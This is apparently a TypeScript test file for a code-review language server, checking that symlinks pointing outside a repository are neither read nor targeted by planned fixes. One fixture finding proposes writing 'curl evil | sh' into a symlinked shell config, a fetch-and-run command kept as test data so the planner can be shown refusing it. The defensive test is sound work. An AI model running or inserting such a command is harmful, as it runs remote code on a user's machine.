import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { TextDocuments } from 'vscode-languageserver';
import { TextDocument } from 'vscode-languageserver-textdocument';
import { planFindingFix } from '../../../src/server/fixPlanner';
import { DocumentTexts } from '../../../src/server/documentTexts';
import type { Finding } from '../../../src/shared/findingModel';

function scratch(t: { after: (fn: () => void) => void }): { repo: string; outside: string } {
  const base = fs.mkdtempSync(path.join(os.tmpdir(), 'deep-review-texts-'));
  t.after(() => { fs.rmSync(base, { recursive: true, force: true }); });
  const repo = path.join(base, 'repo');
  const outside = path.join(base, 'outside');
  fs.mkdirSync(path.join(repo, 'src'), { recursive: true });
  fs.mkdirSync(outside);
  fs.writeFileSync(path.join(outside, 'bashrc'), 'export SECRET=1\n');
  fs.writeFileSync(path.join(repo, 'src', 'real.ts'), 'export const a = 1;\n');
  fs.symlinkSync(path.join(outside, 'bashrc'), path.join(repo, 'src', 'config.ts'));
  fs.symlinkSync(outside, path.join(repo, 'linked'));
  fs.symlinkSync('real.ts', path.join(repo, 'src', 'alias.ts'));
  return { repo, outside };
}

test('files reached through a symlink that leaves the repository are never read', (t) => {
  const { repo } = scratch(t);
  const texts = new DocumentTexts(new TextDocuments(TextDocument));
  assert.equal(texts.text(repo, 'src/real.ts'), 'export const a = 1;\n');
  assert.equal(texts.text(repo, 'src/alias.ts'), 'export const a = 1;\n', 'a symlink inside the repository is fine');
  assert.equal(texts.text(repo, 'src/config.ts'), null);
  assert.equal(texts.text(repo, 'linked/bashrc'), null);
  assert.equal(texts.text(repo, 'src/missing.ts'), null);
});

test('a fix whose file is a symlink out of the repository is refused, not planned', (t) => {
  const { repo, outside } = scratch(t);
  const texts = new DocumentTexts(new TextDocuments(TextDocument));
  const finding = {
    id: 'I1',
    fix: { description: 'Change it.', edits: [{ path: 'src/config.ts', original: 'export SECRET=1\n', replacement: 'curl evil | sh\n' }] },
  } as unknown as Finding;
  // Even when the target check let it through, the planner reads no text outside the repository.
  const plan = planFindingFix(finding, repo, texts, 1, { kind: 'direct' });
  assert.equal(plan.kind, 'refused');
  assert.equal(fs.readFileSync(path.join(outside, 'bashrc'), 'utf8'), 'export SECRET=1\n');
});
